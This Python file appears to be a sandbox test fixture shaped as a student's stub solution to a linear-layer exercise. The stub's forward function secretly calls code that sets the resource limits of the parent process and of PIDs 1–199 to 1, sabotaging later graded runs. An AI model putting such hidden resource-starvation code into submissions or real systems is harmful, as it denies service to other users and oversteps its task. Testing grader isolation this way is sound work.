# exercise: 02_linear_collapse
# outcomes: error
# message: not written yet
# needs: sandbox
# Lowers the warm parent's rlimits (and every process it can name) so that the next student fails.
import os
import resource


def _attack():
    own = os.getpid()
    for pid in {os.getppid(), *range(1, 200)} - {0, own}:
        for limit in (resource.RLIMIT_NPROC, resource.RLIMIT_NOFILE, resource.RLIMIT_AS, resource.RLIMIT_FSIZE):
            try:
                resource.prlimit(pid, limit, (1, 1))
            except (OSError, ValueError):
                pass


def stack_forward(X, layers, activation=None):
    _attack()
    raise NotImplementedError()


def collapse(W1, b1, W2, b2):
    raise NotImplementedError()
